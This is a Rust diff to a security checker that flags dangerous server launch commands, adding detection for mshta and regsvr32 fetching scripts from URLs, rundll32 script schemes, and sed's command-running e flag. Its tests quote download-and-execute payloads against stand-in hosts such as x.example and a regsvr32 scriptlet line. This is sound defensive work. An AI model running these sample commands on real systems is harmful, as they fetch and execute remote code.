@@ -269,7 +269,7 @@ pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
     // once and a long launch costs its length, not its square.
     let mut searched: Vec<String> = Vec::new();
     for (i, a) in argv.iter().enumerate() {
-        let p = program(a.text);
+        let p = unversioned(program(a.text));
         let f = family(&p);
         if matches!(
             f,
@@ -285,13 +285,23 @@ pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
                 .get(i + 1)
                 .is_some_and(|r| matches!(r.text, "exec" | "x" | "dlx"));
         let rest = &argv[i + 1 + usize::from(sub)..];
+        if let Some(url) = script_host_fetch(f, rest) {
+            sink.add(
+                "STDIO-003",
+                Level::Block,
+                url.span,
+                format!("`{}` runs a script straight from `{}`", a.text, url.text),
+            )
+            .help("ship the server's code in the bundle or pin its package; never run what a URL serves");
+            return;
+        }
         let hit = match f {
             "cmd" => cmd(rest),
             "powershell" | "pwsh" => powershell(rest, f == "powershell"),
             "deno" => rest.first().filter(|r| r.text == "eval").copied(),
             "fish" => scan(&FISH, rest),
             "python" => scan(&PYTHON, rest),
-            "node" | "bun" => scan(&NODE, rest),
+            "node" | "bun" | "tsx" | "ts-node" | "zx" => scan(&NODE, rest),
             "perl" => scan(&PERL, rest),
             "ruby" => scan(&RUBY, rest),
             "php" => scan(&PHP, rest),
@@ -306,6 +316,8 @@ pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
             // Common words elsewhere; editors only as the command.
             "ex" | "view" if command_position(argv, i) => editor_commands(rest),
             "git" => git_config(rest),
+            "mshta" | "rundll32" => rest.iter().find(|r| script_url_scheme(r.text)).copied(),
+            "sed" | "gsed" => sed_exec(rest),
             "xargs" => rest
                 .iter()
                 .find(|r| SHELLS.contains(&family(&program(r.text))))
@@ -318,7 +330,7 @@ pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
         if let Some(flag) = hit {
             sink.add("STDIO-001", Level::High, flag.span, format!("`{}` is given inline code with `{}`", a.text, flag.text))
                 .help("launch the server's executable or package directly, with its arguments as separate elements");
-            if let Some(code) = rest.iter().find(|r| fetches_and_runs(r.text)) {
+            if let Some(code) = rest.iter().find(|r| code_downloads_and_runs(r.text)) {
                 sink.add(
                     "STDIO-003",
                     Level::Block,
@@ -332,9 +344,101 @@ pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
     }
 }
 
+/// `javascript:` or `vbscript:` code handed to a Windows script host (`mshta`, `rundll32`).
+fn script_url_scheme(t: &str) -> bool {
+    let lower = t.to_ascii_lowercase();
+    lower.contains("javascript:") || lower.contains("vbscript:")
+}
+
+/// Windows script hosts that fetch what they run: `mshta https://…`, and
+/// `regsvr32 /i:https://… scrobj.dll` (a scriptlet from a URL).
+fn script_host_fetch<'a>(f: &str, rest: &[Arg<'a>]) -> Option<Arg<'a>> {
+    let url = |t: &str| {
+        let t = t.to_ascii_lowercase();
+        t.starts_with("http://") || t.starts_with("https://") || t.starts_with("\\\\")
+    };
+    match f {
+        "mshta" => rest.iter().find(|r| url(r.text)).copied(),
+        "regsvr32" => rest
+            .iter()
+            .find(|r| {
+                let t = r.text.to_ascii_lowercase();
+                ["/i:", "-i:"]
+                    .iter()
+                    .any(|p| t.strip_prefix(p).is_some_and(&url))
+            })
+            .copied(),
+        _ => None,
+    }
+}
+
+/// GNU sed's `e` command, which runs a shell command: `1e id`, `/x/e cmd`, and the `s`
+/// command's `e` flag (`s/x/y/e` runs the pattern space). The script is `-e SCRIPT`,
+/// `--expression=SCRIPT`, or the first operand.
+fn sed_exec<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
+    let mut i = 0;
+    while let Some(a) = rest.get(i) {
+        let t = a.text;
+        let script = match t {
+            "-e" | "--expression" => {
+                i += 1;
+                rest.get(i).map(|n| n.text)
+            }
+            _ if t.starts_with("--expression=") => t.split_once('=').map(|(_, v)| v),
+            _ if t.starts_with("-e") && !t.starts_with("--") => Some(&t[2..]),
+            "-f" | "--file" | "-l" | "--line-length" => {
+                i += 2;
+                continue;
+            }
+            _ if t.starts_with('-') => {
+                i += 1;
+                continue;
+            }
+            _ => Some(t),
+        };
+        if script.is_some_and(sed_script_runs) {
+            return Some(*a);
+        }
+        if !t.starts_with('-') {
+            return None; // the first operand was the script; the rest are files
+        }
+        i += 1;
+    }
+    None
+}
+
+/// Whether a sed script has an `e` command or an `s` command with the `e` flag.
+fn sed_script_runs(script: &str) -> bool {
+    script.split([';', '\n']).any(|cmd| {
+        let cmd = cmd.trim_start();
+        // Skip an address: line numbers, `$`, `,`, `~`, `!`, and `/regex/`.
+        let mut rest = cmd.trim_start_matches(|c: char| c.is_ascii_digit() || "$,~! ".contains(c));
+        while let Some(r) = rest.strip_prefix('/') {
+            rest = r.split_once('/').map_or("", |(_, after)| after);
+            rest = rest.trim_start_matches(|c: char| c.is_ascii_digit() || "$,~! ".contains(c));
+        }
+        if rest == "e" || rest.starts_with("e ") {
+            return true;
+        }
+        let Some(body) = rest.strip_prefix('s') else {
+            return false;
+        };
+        let Some(delim) = body.chars().next() else {
+            return false;
+        };
+        let parts: Vec<&str> = body[delim.len_utf8()..].splitn(3, delim).collect();
+        parts.len() == 3
+            && parts[2]
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .any(|c| c == 'e')
+    })
+}
+
 /// Whether inline code both names a URL and evaluates or runs what it gets: `exec(urlopen(…))`,
-/// `fetch(…).then(eval)`, `eval URI.open(…)`, `iex (iwr …)`, `load(http…)`.
-fn fetches_and_runs(code: &str) -> bool {
+/// `fetch(…).then(eval)`, `eval URI.open(…)`, `iex (iwr …)`, `load(http…)`. This reads an
+/// interpreter's code; shell statements (`curl … | sh`) are `fetch::fetches_and_runs`'s.
+fn code_downloads_and_runs(code: &str) -> bool {
     let lower = code.to_ascii_lowercase();
     const RUNNERS: &[&str] = &[
         "eval",
@@ -415,6 +519,23 @@ fn scan<'a>(g: &Grammar, rest: &[Arg<'a>]) -> Option<Arg<'a>> {
     None
 }
 
+/// A package launched at a version (`npx -y node@20.11.1`, `tsx@4.19.2`, `zx@latest`)
+/// is the program of that name: an interpreter started by a launcher keeps its grammar.
+fn unversioned(p: String) -> String {
+    match p.split_once('@') {
+        Some((name, v))
+            if !name.is_empty()
+                && (v
+                    .trim_start_matches(['v', '^', '~', '='])
+                    .starts_with(|c: char| c.is_ascii_digit())
+                    || matches!(v, "latest" | "lts" | "next")) =>
+        {
+            name.to_string()
+        }
+        _ => p,
+    }
+}
+
 /// `cmd /c …`, `/k`, also joined (`/cecho`) and among other switches (`/q /s /c`).
 fn cmd<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
     rest.iter()
@@ -470,17 +591,19 @@ mod tests {
 
     #[test]
     fn inline_code_that_downloads_and_runs() {
-        assert!(fetches_and_runs(
+        assert!(code_downloads_and_runs(
             "fetch('https://x.example/s.js').then(r=>r.text()).then(eval)"
         ));
-        assert!(fetches_and_runs(
+        assert!(code_downloads_and_runs(
             "import urllib.request;exec(urllib.request.urlopen('https://x.example/p').read())"
         ));
-        assert!(fetches_and_runs(
+        assert!(code_downloads_and_runs(
             "eval URI.open('https://x.example/s.rb').read"
         ));
-        assert!(!fetches_and_runs("print('see https://x.example for docs')"));
-        assert!(!fetches_and_runs("import server; server.main()"));
+        assert!(!code_downloads_and_runs(
+            "print('see https://x.example for docs')"
+        ));
+        assert!(!code_downloads_and_runs("import server; server.main()"));
     }
 
     #[test]
@@ -502,5 +625,40 @@ mod tests {
         assert!(git_config(&args(&["-c", "core.pager=sh", "log"])).is_some());
         assert!(git_config(&args(&["--exec-path=/tmp", "status"])).is_some());
         assert!(git_config(&args(&["log", "-c", "core.pager=sh"])).is_none());
+    }
+    #[test]
+    fn a_launched_package_at_a_version_is_its_program() {
+        assert_eq!(unversioned("node@20.11.1".into()), "node");
+        assert_eq!(unversioned("tsx@latest".into()), "tsx");
+        assert_eq!(unversioned("zx@^8".into()), "zx");
+        assert_eq!(unversioned("git@github.com:x".into()), "git@github.com:x");
+        assert_eq!(unversioned("@scope".into()), "@scope");
+    }
+
+    #[test]
+    fn sed_scripts_that_run_commands() {
+        for script in ["1e id", "/x/e cmd", "s/x/y/e", "s|a|b|ge", "p;e"] {
+            assert!(sed_script_runs(script), "{script}");
+        }
+        for script in ["s/foo/bar/g", "/e/d", "s/e/E/", "1,5p", "$d", "s/x/y/w out"] {
+            assert!(!sed_script_runs(script), "{script}");
+        }
+    }
+
+    #[test]
+    fn windows_script_hosts() {
+        assert!(script_host_fetch("mshta", &args(&["https://x.example/a.hta"])).is_some());
+        assert!(
+            script_host_fetch(
+                "regsvr32",
+                &args(&["/s", "/i:https://x/a.sct", "scrobj.dll"])
+            )
+            .is_some()
+        );
+        assert!(script_host_fetch("regsvr32", &args(&["/s", "local.dll"])).is_none());
+        assert!(script_url_scheme(
+            "javascript:\\..\\mshtml,RunHTMLApplication"
+        ));
+        assert!(!script_url_scheme("shell32.dll,Control_RunDLL"));
     }
 }
